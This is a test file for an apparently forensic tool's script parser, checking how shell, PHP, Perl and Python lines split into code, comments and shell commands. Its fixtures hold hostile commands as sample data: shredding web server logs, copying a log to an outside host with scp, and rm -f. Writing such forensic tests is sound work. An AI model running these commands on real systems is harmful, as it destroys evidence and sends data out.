import { describe, expect, it } from 'vitest';
import { FORMATS } from '../../../src/index.ts';
import { cpuTime } from '../../../../../tools/cpu-time.ts';
import { SCRIPT } from '../../../src/evidence/text/script/script.ts';
import { sample } from './samples.ts';
import { detects, objects, readAll, utf8 } from './reading.ts';

const shown = async (text: string, path = 'x'): Promise<unknown[]> =>
  (await objects(SCRIPT, text, { path })).map(({ line, code, comment, command }) =>
    Object.fromEntries(
      Object.entries({ line, code, comment, command }).filter(([, value]) => value !== undefined),
    ),
  );

describe('scripts', () => {
  it('PHP: code, comments over lines, and the command it hands to a shell', async () => {
    expect(await shown(sample('script'))).toEqual([
      { line: 1 },
      { line: 2, comment: '/* keeps what was' },
      { line: 3, comment: 'logged */' },
      { line: 4, code: "$log = '/var/log/httpd/access_log';", comment: "# the server's" },
      { line: 5, code: 'system("shred -z $log");', command: 'shred -z $log' },
      { line: 6, code: '?>' },
      { line: 7 },
    ]);
  });

  it('says where a line lies and what it is written in, and nothing of when but the last change', async () => {
    const { events } = await readAll(SCRIPT, '#!/bin/sh\n\nid\n', { path: 'a.sh', notAfter: 7 });
    expect(events.map((event) => [event.locator.offset, event.time])).toEqual([
      [0, 7],
      [11, 7],
    ]);
    expect(events[1]!.toObject()).toEqual({
      '@timestamp': '1970-01-01T00:00:00.000007Z',
      language: 'shell',
      line: 3,
      text: 'id',
      code: 'id',
      command: 'id',
      time_from: 'modified',
    });
  });

  it('shell: joined lines, and # that begins no comment', async () => {
    const text = '#!/bin/bash\nshred -z \\\n  /var/log/a # b\necho $# ${a#b} "#"\n';
    expect(await shown(text)).toEqual([
      { line: 1, comment: '#!/bin/bash' },
      {
        line: 2,
        code: 'shred -z    /var/log/a',
        comment: '# b',
        command: 'shred -z    /var/log/a',
      },
      { line: 4, code: 'echo $# ${a#b} "#"', command: 'echo $# ${a#b} "#"' },
    ]);
  });

  it('Perl and Python: documentation is a comment, calls are commands', async () => {
    const perl = '#!/usr/bin/perl -w\n=pod\nsystem("id");\n=cut\nsystem "cat -n $f";\n';
    expect((await shown(perl)).slice(1)).toEqual([
      { line: 2, comment: '=pod' },
      { line: 3, comment: 'system("id");' },
      { line: 4, comment: '=cut' },
      { line: 5, code: 'system "cat -n $f";', command: 'cat -n $f' },
    ]);
    const python =
      '#!/usr/bin/env python3\n"""a\nb"""\nsubprocess.run(["shred", "-z", path])\nc = "rm -f " + x\n';
    expect((await shown(python)).slice(1)).toEqual([
      { line: 2, comment: '"""a' },
      { line: 3, comment: 'b"""' },
      {
        line: 4,
        code: 'subprocess.run(["shred", "-z", path])',
        command: 'shred -z path',
      },
      { line: 5, code: 'c = "rm -f " + x', command: 'rm -f' },
    ]);
  });

  it('PHP: strings hold no comments, HTML holds no code', async () => {
    const text = '<?php $a = "//"; $b = \'/*\'; // c ?> d <?= $e ?>\n<p>"/* <?php echo 1;\n';
    expect(await shown(text)).toEqual([
      { line: 1, code: `$a = "//"; $b = '/*'; ?> $e ?>`, comment: '// c' },
      { line: 2, code: 'echo 1;' },
    ]);
  });

  it('is told by the first line, PHP between HTML also by its name', () => {
    for (const first of [
      '#!/bin/sh',
      '#! /usr/bin/env -S python3 -u',
      '#!/usr/local/bin/perl -T',
      '<?php',
      '<? $a',
      '<?=1',
    ]) {
      expect(detects(SCRIPT, `${first}\na\n`), first).toBe(true);
    }
    expect(detects(SCRIPT, '<html>\n<?php a() ?>\n</html>\n', 'www/index.php')).toBe(true);
    expect(detects(SCRIPT, '<html>\n<?php a() ?>\n</html>\n', 'www/index.html')).toBe(false);
    for (const first of ['#!/usr/sbin/nft -f', '#!/usr/bin/node', '#!', '<?xml version="1.0"?>']) {
      expect(detects(SCRIPT, `${first}\na\n`), first).toBe(false);
    }
    expect(detects(SCRIPT, '#!/bin/sh\n\x01\x02\nx\n')).toBe(false);
  });

  it('stops at what is packed behind it', async () => {
    const { events, issues } = await readAll(SCRIPT, '#!/bin/sh\nexit\n\x01\x02\nshred x\n\x03\n');
    expect(events.length).toBe(2);
    expect(issues.map(({ code, offset }) => [code, offset])).toEqual([['TEXT_LINE', 15]]);
  });
});

describe('scripts without a first line that says so', () => {
  const commands = 'LOG=/var/log/nginx/access.log\nscp "$LOG" a@192.0.2.1:\n';
  const told = (path: string, text = commands): boolean =>
    SCRIPT.detect(new TextEncoder().encode(text), path);

  it.each([
    'srv/git/site.git/hooks/post-receive',
    'site/.git/hooks/pre-commit',
    'git.tar!repo.git/hooks/update',
    'C:\\case\\etc\\profile.d\\login.sh',
    'etc/cron.daily/clean',
    'etc/cron.d/clean',
    'etc/rc.local',
    'etc/ssh/sshrc',
    'home/a/.ssh/rc',
    'etc/NetworkManager/dispatcher.d/50-x',
    'var/www/html/clean.sh',
    'opt/x/clean.sh',
  ])('%s', (path) => {
    expect(told(path)).toBe(true);
  });

  it.each([
    ['notes/post-receive', commands],
    ['site/.git/hooks/README', commands],
    ['etc/profile.d/a.csh', commands],
    ['etc/profile.d/a.sh', 'setenv A b\necho $A\n'],
    ['doc/install.sh', 'How to install\n'],
    ['srv/hooks/update', '[hooks]\nwhat = $a\n'],
    ['srv/hooks/update', '<html>\necho a\n'],
    ['etc/cron.daily/.placeholder', '# nothing here\n'],
    ['usr/lib/python3/x.py', 'import os\n'],
    ['var/www/html/x.py', 'a = 1\n'],
    ['opt/a.sh', '\0\0echo $a'],
  ])('not %s %#', (path, text) => {
    expect(told(path, text)).toBe(false);
  });

  it('Perl and Python in a web root', async () => {
    const perl = "use strict;\nsystem('shred -z /var/log/messages');\n";
    expect(await shown(perl, 'var/www/cgi-bin/a.cgi')).toMatchObject([
      {},
      { command: 'shred -z /var/log/messages' },
    ]);
    expect(told('srv/www/x/a.py', 'import os\nos.system("id")\n')).toBe(true);
  });

  it('a table of cron stays one', () => {
    const table = '*/5 * * * * root cat /var/log/syslog >> /tmp/a && true\n';
    const found = FORMATS.find((format) => format.detect(utf8(table), 'etc/cron.d/a'));
    expect(found?.id).toBe('crontab');
  });

  it('stay quick whatever the path and the lines are', () => {
    const start = cpuTime();
    for (const piece of [
      'hooks/',
      '.git/',
      'a.',
      'etc/',
      'if ',
      'for a in ',
      'case in ',
      '$(',
      'my ',
    ]) {
      const text = piece.repeat(60_000 / piece.length);
      told(`${text}x.sh`);
      told('a.sh', `${text}\n`.repeat(5));
      told('var/www/a.cgi', `${text}\n`.repeat(5));
    }
    expect(cpuTime() - start).toBeLessThan(3_000);
  });
});
